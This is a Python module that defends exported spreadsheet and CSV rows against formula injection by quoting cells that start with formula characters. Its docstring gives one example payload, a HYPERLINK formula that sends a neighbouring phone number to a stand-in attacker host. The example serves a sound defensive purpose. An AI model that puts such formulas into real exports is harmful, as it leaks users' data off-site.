"""Cells a person will open in a spreadsheet: every exported row is written through here.

A text that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab, a carriage return or a line
feed, which some programs skip before reading a formula) is a live formula in Excel, WPS and
LibreOffice: a name typed as ``=HYPERLINK("https://evil.example/?"&C2, "点击")`` would send the
phone beside it off-site. Following OWASP's CSV-injection guidance, such a text gets a leading
single quote so the program shows it as text; the full-width forms (``＝＋－＠``), which an
input method types and some programs read as the ASCII ones, are treated alike. Only ``str``
values are touched: real numbers, dates and empty cells keep their type, so a sum still sums.

``append_row`` (openpyxl sheets, normal or write-only) and ``csv_writer`` are the only row
writers of the product; ``tests/core/test_export_cells.py`` checks no module writes rows past
them and that every download route's file parses back without a formula.
"""

import csv

from openpyxl.cell.cell import Cell

FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")
QUOTE = "'"


def neutralise(value):
    """``value`` made inert for a spreadsheet: a text that a program would read as a formula
    gets a leading single quote; anything else is returned as it is."""
    if isinstance(value, str) and value and value[0] in FORMULA_STARTS:
        return QUOTE + value
    return value


def neutral_row(values) -> list:
    """A row of values (or openpyxl cells, whose value is neutralised in place)."""
    row = []
    for value in values:
        if isinstance(value, Cell):  # a styled cell (WriteOnlyCell makes these too)
            value.value = neutralise(value.value)
            row.append(value)
        else:
            row.append(neutralise(value))
    return row


def append_row(sheet, values) -> None:
    """Append one row to an openpyxl worksheet (normal or write-only), neutralised."""
    sheet.append(neutral_row(values))


class _NeutralWriter:
    """csv.writer's interface, every field neutralised (the csv module then quotes it)."""

    def __init__(self, handle, **options):
        self._writer = csv.writer(handle, **options)

    def writerow(self, row):
        return self._writer.writerow(neutral_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(handle, **options) -> _NeutralWriter:
    """A CSV writer on ``handle`` (``csv.writer`` options) that neutralises every field."""
    return _NeutralWriter(handle, **options)
